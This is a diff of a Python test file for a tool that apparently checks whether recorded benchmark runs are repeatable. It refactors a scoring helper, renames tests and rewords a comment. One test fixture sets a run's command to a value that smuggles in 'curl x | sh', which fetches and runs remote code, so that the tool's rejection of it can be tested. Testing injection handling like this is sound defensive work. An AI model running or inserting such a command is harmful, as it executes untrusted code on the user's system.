@@ -66,12 +66,11 @@ def rows_of(page: Path) -> dict[str, str]:
 def scores(runs: Path, method: str) -> dict[tuple[int | None, str], float]:
     found, damaged = RunsFolder(runs).records()
     assert not damaged
-    return {
-        (one.seed, score.task): score.value
-        for one in found
-        if one.method == method
-        for score in one.scores
-    }
+    values = {}
+    for one in found:
+        if one.method == method:
+            values |= {(one.seed, score.task): score.value for score in one.scores}
+    return values
 
 
 def run_again(command: str, runs: Path) -> None:
@@ -148,7 +147,7 @@ def words_after(command: str, option: str) -> list[str]:
     return [words[i + 1] for i, word in enumerate(words) if word == option]
 
 
-def test_what_stands_in_a_command() -> None:
+def test_the_command_that_repeats_a_run() -> None:
     one = record("promcse", 3, variant="eh", backbone="bert-base-uncased")
     origin = replace(
         one.provenance,
@@ -285,11 +284,11 @@ def test_a_field_of_another_form_makes_a_run_not_repeatable(text: str) -> None:
     ]
     for number, changed in enumerate(records):
         told = repeat([changed])
-        plain = number in (2, 8) and "/" in text  # of a path the last part is named, which is plain
+        plain = number in (2, 8) and "/" in text  # the last part of a path is named, and is plain
         assert told == NOT_REPEATABLE or (plain and "curl" not in told), (number, told)
 
 
-def test_what_only_its_owner_has_is_not_repeatable() -> None:
+def test_a_run_with_files_of_its_owner_is_not_repeatable() -> None:
     one = record("object", 1)
     typed = replace(
         one.provenance, plugin=Code(package="bench"), command="bench evaluate m; curl x | sh #'"
